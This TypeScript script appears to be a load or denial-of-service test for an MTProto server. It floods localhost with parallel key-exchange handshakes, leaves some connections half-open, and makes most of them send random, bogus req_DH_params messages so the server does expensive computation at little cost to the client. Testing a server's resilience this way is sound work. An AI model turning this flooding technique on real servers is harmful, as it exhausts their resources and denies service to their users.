// Opens connections as fast as it can and makes the server compute: node flood.ts PORT PUBLIC_KEY_PEM
// One in four goes half-way honestly and stays; the others name wrong factors, which costs them nothing and the server
// as much. Ends with its parent or after a minute.
import { randomBytes } from 'node:crypto'
import { parsePublicKey } from '@chappe/crypto'
import { decodeObject, encode } from '@chappe/tl-codec/mtproto'
import { connectTcp, createClientKeyExchange, type PacketConnection } from '@chappe/transport'

const PARALLEL = 64
const MAX_HALF_OPEN = 256
const LIFETIME_MS = 60_000
const HEADER_BYTES = 20

const random = (length: number): Uint8Array => new Uint8Array(randomBytes(length))
const [port, pem = ''] = process.argv.slice(2)
const publicKey = parsePublicKey(pem)
const halfOpen: PacketConnection[] = []
let handshakes = 0

process.on('message', () => process.send?.({ type: 'handshakes', handshakes }))
process.on('disconnect', () => process.exit())
setTimeout(() => process.exit(), LIFETIME_MS)

/** Resolves when the server has computed for this connection, or it is closed. */
function attack(honest: boolean): Promise<void> {
  const exchange = createClientKeyExchange({ publicKeys: [publicKey], dc: { id: 2 }, random, now: Date.now })
  return new Promise((resolve) => {
    let packets = 0
    const accept = (connection: PacketConnection) => ({
      onPacket(packet: Uint8Array) {
        if (++packets > 1) {
          halfOpen.push(connection)
          if (halfOpen.length > MAX_HALF_OPEN) halfOpen.shift()?.abort()
          resolve()
          return
        }
        handshakes++
        if (!honest) {
          connection.send(nonsense(packet))
          return
        }
        const output = exchange.receive(packet)
        if (output?.type === 'send') connection.send(output.packet)
      },
      onClose: () => resolve(),
    })
    connectTcp({ host: '127.0.0.1', port: Number(port), random, accept }).then(
      (connection) => connection.send(exchange.start()),
      () => setTimeout(resolve, 10),
    )
  })
}

/** req_DH_params that answers resPQ in the right form, with nothing right in it. */
function nonsense(resPq: Uint8Array): Uint8Array {
  const answer = decodeObject(resPq.subarray(HEADER_BYTES))
  if (answer._ !== 'resPQ') throw new TypeError(`${answer._} instead of resPQ`)
  const { nonce, serverNonce } = answer
  const { fingerprint: publicKeyFingerprint } = publicKey
  const factors = { p: random(4), q: random(4) }
  const block = { publicKeyFingerprint, encryptedData: random(256) }
  const body = encode({ _: 'req_DH_params', nonce, serverNonce, ...factors, ...block })
  const packet = new Uint8Array(HEADER_BYTES + body.length)
  const view = new DataView(packet.buffer)
  view.setBigInt64(8, BigInt(Math.floor(Date.now() / 1000)) << 32n, true)
  view.setUint32(16, body.length, true)
  packet.set(body, HEADER_BYTES)
  return packet
}

async function attackForever(number: number): Promise<void> {
  for (;;) await attack(number % 4 === 0)
}

for (let i = 0; i < PARALLEL; i++) void attackForever(i)
